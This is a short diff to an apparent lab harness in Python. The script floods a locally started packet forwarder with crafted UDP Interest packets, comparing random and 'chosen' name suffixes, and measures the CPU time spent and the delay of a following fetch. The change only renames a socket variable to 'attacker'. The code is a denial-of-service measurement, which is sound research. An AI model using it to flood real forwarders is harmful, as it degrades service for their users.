@@ -18,13 +18,13 @@ def run(attack):
     count = 15_000 if attack.short else 50_000
     spent, seconds = {}, {}
     for kind in ("random", "chosen"):
-        with victim(attack, 4 << 20) as (forwarder, fetch), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
+        with victim(attack, 4 << 20) as (forwarder, fetch), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
             packets = []
             for number in range(count):
                 end = CHOSEN if kind == "chosen" else struct.pack("<Q", number * 0x9E3779B97F4A7C15 % 2**64)
                 packets.append(interest(name(tlv(8, struct.pack("<Q", number)[:6] + end)), number, LASTING))
             before = cpu(forwarder.program)
-            send(stranger, forwarder.udp, packets)
+            send(attacker, forwarder.udp, packets)
             spent[kind] = cpu(forwarder.program) - before
             seconds[kind] = fetch()
     figures = ", ".join(f"{kind}: {spent[kind]:.2f} s of CPU time, then a fetch of 4 MiB in {seconds[kind]:.2f} s" for kind in spent)
